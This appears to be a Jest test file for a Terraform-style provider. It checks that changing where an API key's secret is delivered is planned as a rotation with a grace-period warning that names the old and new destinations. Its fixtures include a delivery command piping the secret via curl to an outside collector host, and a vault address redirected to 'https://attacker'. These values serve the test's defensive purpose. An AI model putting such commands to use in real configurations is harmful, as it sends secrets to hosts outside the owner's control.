/**
 * The plan of a changed `secret_delivery`: every new destination (another file, another command,
 * other env, delivery added or removed, a destination not known until apply) is a re-delivery, a
 * rotation with the key's grace period, shown with a warning that names the old and new destination.
 * A changed timeout alone is not a new destination. Pure: no API call is made.
 */
import { TfObject, UNKNOWN } from '../../src/provider/framework';
import { KeyformContext, planApiKey } from '../../src/provider/keyform';

const ctx = { settings: { endpoint: 'http://127.0.0.1:1', token: 't', mid: 'mid_123456', allowLive: false } } as KeyformContext;
const now = new Date('2026-01-10T00:00:00Z');

const delivery = (o: Record<string, unknown>) => ({ file: null, command: null, env: null, inherit_env: null, timeout: null, ...o }) as TfObject;
const config = (secretDelivery: TfObject | null, rotation: TfObject | null = null): TfObject => ({
  id: null, mid: null, name: 'svc', type: 'secret', mode: null, scopes: ['customers:read'], description: null, expires_at: null,
  value: null, prefix: null, fingerprint: null, created_at: null, rotated_at: null, version: null, rotation, secret_delivery: secretDelivery,
});
const prior = (secretDelivery: TfObject | null): TfObject => ({
  ...config(secretDelivery), id: 'key_1', mid: 'mid_123456', mode: 'test', value: secretDelivery ? null : 'fsk_test_secretvalue', prefix: 'fsk_test_',
  fingerprint: 'sha256:1', created_at: '2026-01-09T00:00:00Z', rotated_at: null, version: 1,
});

const fileA = delivery({ file: 'a.key' });
const vault = delivery({ command: 'vault kv put -mount=secret svc value=-', env: { VAULT_ADDR: 'https://vault.a' }, inherit_env: ['VAULT_TOKEN'] });

describe('a changed secret_delivery is planned as a rotation with the grace period', () => {
  it.each([
    { reason: 'file to another file', from: fileA, to: delivery({ file: 'b.key' }), names: ['file "a.key"', 'file "b.key"'] },
    { reason: 'file to a command', from: fileA, to: delivery({ command: 'curl -d @- https://collector' }), names: ['file "a.key"', 'command "curl -d @- https://collector"'] },
    { reason: 'command to another command', from: vault, to: delivery({ ...vault, command: 'vault kv put -mount=secret other value=-' }), names: ['vault kv put -mount=secret svc', 'vault kv put -mount=secret other'] },
    { reason: 'the same command with another env (VAULT_ADDR elsewhere)', from: vault, to: delivery({ ...vault, env: { VAULT_ADDR: 'https://attacker' } }), names: ['https://vault.a', 'https://attacker'] },
    { reason: 'the same command inheriting other variables', from: vault, to: delivery({ ...vault, inherit_env: ['VAULT_TOKEN', 'VAULT_ADDR'] }), names: ['inherit_env VAULT_TOKEN)', 'inherit_env VAULT_ADDR,VAULT_TOKEN'] },
    { reason: 'delivery added to a key whose secret was in state', from: null, to: fileA, names: ['Terraform state (value)', 'file "a.key"'] },
    { reason: 'delivery removed (the secret goes back into state)', from: fileA, to: null, names: ['file "a.key"', 'Terraform state (value)'] },
    { reason: 'a destination known only after apply', from: fileA, to: delivery({ file: UNKNOWN }), names: ['file "a.key"', 'a destination known only after apply'] },
  ])('$reason', async ({ from, to, names }) => {
    const { planned, diagnostics, requiresReplace } = await planApiKey({ prior: prior(from), proposed: config(to, { every: '90d', grace_period: '6h' }), config: config(to, { every: '90d', grace_period: '6h' }) }, ctx, now);
    expect(requiresReplace ?? []).toEqual([]);
    expect(planned).toMatchObject({ id: 'key_1', version: UNKNOWN, fingerprint: UNKNOWN, rotated_at: UNKNOWN });
    // Back into state: the new value is planned there; delivered: never in state.
    expect(planned.value).toBe(to ? null : UNKNOWN);
    const warnings = (diagnostics ?? []).filter((d) => d.detail?.includes('KF-HANDLER-029'));
    expect(warnings).toHaveLength(1);
    const [w] = warnings;
    expect(w.severity).toBe('warning');
    expect(w.attribute).toEqual(['secret_delivery']);
    expect(w.summary).toContain('API key key_1');
    for (const n of names) expect(w.summary).toContain(n);
    expect(w.detail).toContain('6h');
    expect(w.detail).toContain('keeps working');
  });

  it('without a rotation block the default grace period (24h) is named', async () => {
    const { diagnostics } = await planApiKey({ prior: prior(fileA), proposed: config(delivery({ file: 'b.key' })), config: config(delivery({ file: 'b.key' })) }, ctx, now);
    expect(diagnostics?.find((d) => d.detail?.includes('KF-HANDLER-029'))?.detail).toContain('24h');
  });

  it.each([
    { reason: 'the same file', from: fileA, to: fileA },
    { reason: 'the same command with only a new timeout', from: vault, to: delivery({ ...vault, timeout: '5m' }) },
    { reason: 'the same env written in another order', from: delivery({ command: 'c', env: { A: '1', B: '2' } }), to: delivery({ command: 'c', env: { B: '2', A: '1' } }) },
    { reason: 'no delivery before or after', from: null, to: null },
  ])('no rotation and no warning: $reason', async ({ from, to }) => {
    const { planned, diagnostics } = await planApiKey({ prior: prior(from), proposed: config(to), config: config(to) }, ctx, now);
    expect(planned).toMatchObject({ version: 1, fingerprint: 'sha256:1', rotated_at: null });
    expect(diagnostics ?? []).toEqual([]);
  });

  it('a replacement (mode change) is not also a rotation', async () => {
    const next = { ...config(delivery({ file: 'b.key' })), mode: 'live' };
    const { requiresReplace } = await planApiKey({ prior: prior(fileA), proposed: next, config: next }, { ...ctx, settings: { ...ctx.settings, allowLive: true } }, now);
    expect(requiresReplace).toEqual([['mode']]);
  });
});
